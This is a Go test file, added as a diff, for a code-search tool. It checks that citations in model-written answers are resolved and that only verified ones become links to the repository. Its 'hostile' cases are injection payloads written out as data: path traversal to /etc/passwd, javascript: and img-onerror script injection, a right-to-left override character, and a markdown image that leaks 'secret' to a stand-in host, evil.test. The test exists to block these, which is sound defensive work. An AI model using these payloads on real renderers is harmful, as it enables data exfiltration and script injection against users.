@@ -1,0 +1,132 @@
+package ask_test
+
+import (
+	"flag"
+	"fmt"
+	"math/rand/v2"
+	"regexp"
+	"strings"
+	"testing"
+
+	"github.com/shoalsearch/shoal/cluster/catalog"
+	"github.com/shoalsearch/shoal/node/ask"
+	"github.com/shoalsearch/shoal/node/model/modeltest"
+)
+
+var answers = flag.Int("answers", 40, "how many answers TestCitationsOfAllKinds has a model write")
+
+// citing is a piece of an answer and what the check has to make of it.
+type citing struct {
+	text  string // with a citation, or with what only looks like one
+	state ask.CiteState
+	label string
+}
+
+// citings are right, moved, invented and hostile citations.
+var citings = map[string][]citing{
+	"right": {
+		{"By `Open` @file:{local/app::store/store.go:4}. ", ask.Cited, "store/store.go:4"},
+		{"By `Open` @file:{local/app::store/store.go:4-6}. ", ask.Cited, "store/store.go:4-6"},
+		{"By `Store.Close()` (@file:{app::store.go:11-14}). ", ask.Cited, "store/store.go:11-14"},
+		{"It says so @file:{local/app::README.md:3}. ", ask.Cited, "README.md:3"},
+		{"In @file:{`local/app::README.md`} it is told. ", ask.Cited, "README.md"},
+	},
+	"moved": {
+		{"Ended by `Close` @file:{local/app::store/store.go:4}. ", ask.Moved, "store/store.go:12"},
+		{"Ended by `Close` @file:{local/app::store/store.go:900}. ", ask.Moved, "store/store.go:12"},
+		{"Opened by `Open` @file:{app::store.go:14-15}. ", ask.Moved, "store/store.go:4"},
+	},
+	"invented": {
+		{"See @file:{local/app::store/nothing.go:3}. ", ask.Unverified, "nothing.go:3"},
+		{"See @file:{local/nowhere::store/store.go:3}. ", ask.Unverified, "store.go:3"},
+		{"See @file:{local/app::store/store.go:900}. ", ask.Unverified, "store/store.go:900"},
+		{"See @file:{local/app::store/store.go::v9:4}. ", ask.Unverified, "store.go:4"},
+	},
+	"hostile": {
+		{"See @file:{local/hidden::secret.go:3}. ", ask.Unverified, "secret.go:3"},
+		{"See @file:{local/app::../../hidden/secret.go:3}. ", ask.Unverified, "secret.go:3"},
+		{"See @file:{local/app::/etc/passwd:1}. ", ask.Unverified, "passwd:1"},
+		{"See @file:{javascript:alert(1)::x:1}. ", ask.Unverified, "x:1"},
+		{"See @file:{local/app::x](http://evil.test/a.go:1}. ", ask.Unverified, "a.go:1"},
+		{"See @file:{local/app::<img src=x onerror=alert(1)>:1}. ", ask.Unverified, "<img src=x onerror=alert(1)>:1"},
+		{"See @file:{local/app::store/\u202estore.go:900}. ", ask.Unverified, "store/store.go:900"},
+		{"![x](http://evil.test/?q=secret) ", "", ""},
+		{"<img src=http://evil.test/> ", "", ""},
+		{"[click](javascript:alert(1)) ", "", ""},
+		{"[x]: http://evil.test/\n", "", ""},
+	},
+}
+
+// linked is what a browser would follow in the markdown of an answer.
+var linked = regexp.MustCompile(`(?:^|[^\\])\]\(([^)]*)\)|<[a-zA-Z/!]|(?i)[^\\]\bhttps?:|^\[[^\]]*\]:`)
+
+// TestCitationsOfAllKinds has a model write answers of pieces that are drawn. What
+// each citation comes to is known, and nothing but those that hold is a link.
+func TestCitationsOfAllKinds(t *testing.T) {
+	t.Parallel()
+	rng := rand.New(rand.NewPCG(11, 13))
+	kinds := []string{"right", "moved", "invented", "hostile"}
+	var scripts []string
+	var wanted [][]citing
+	drawn := map[string]int{}
+	for range *answers {
+		var text strings.Builder
+		var want []citing
+		for range 1 + rng.IntN(6) {
+			kind := kinds[rng.IntN(len(kinds))]
+			c := citings[kind][rng.IntN(len(citings[kind]))]
+			drawn[kind]++
+			text.WriteString(c.text)
+			if c.state != "" {
+				want = append(want, c)
+			}
+		}
+		scripts, wanted = append(scripts, text.String()), append(wanted, want)
+	}
+	number := regexp.MustCompile(`answer number (\d+) `)
+	s := modeltest.Play(t, func(r *modeltest.Request) modeltest.Turn {
+		n := 0
+		_, _ = fmt.Sscan(number.FindStringSubmatch(r.Raw)[1], &n)
+		return modeltest.Turn{Text: scripts[n]}
+	})
+	n := sample(t, s)
+
+	made := map[ask.CiteState]int{}
+	for i, want := range wanted {
+		r, _ := answered(t, n, ask.Question{Query: fmt.Sprintf("answer number %d please", i), Repos: []string{"local/app"}})
+		if err := n.DeleteChat(t.Context(), catalog.Operator(), r.ID); err != nil {
+			t.Fatal(err)
+		}
+		var got []*ask.Citation
+		for _, p := range r.Answer {
+			if p.Cite != nil {
+				got = append(got, p.Cite)
+			}
+		}
+		if len(got) != len(want) {
+			t.Fatalf("%q: %d citations, want %d", scripts[i], len(got), len(want))
+		}
+		links := 0
+		for k, c := range got {
+			made[c.State]++
+			if c.State != want[k].state || !strings.HasPrefix(c.Label(), want[k].label) {
+				t.Errorf("%q: %s %s, want %s %s", want[k].text, c.State, c.Label(), want[k].state, want[k].label)
+			}
+			if c.State != ask.Unverified {
+				links++
+			}
+		}
+
+		// A link goes to the file at a commit, and there are no others.
+		for _, m := range linked.FindAllStringSubmatch(ask.Markdown(r.Answer, ""), -1) {
+			if !strings.HasPrefix(m[1], "/browse/local/app@") {
+				t.Errorf("%q leads to %q", scripts[i], m[0])
+			}
+			links--
+		}
+		if links != 0 {
+			t.Errorf("%q: %d citations are no links", scripts[i], links)
+		}
+	}
+	t.Logf("%d answers of %v: %d links as they were written, %d moved, %d without a link", *answers, drawn, made[ask.Cited], made[ask.Moved], made[ask.Unverified])
+}
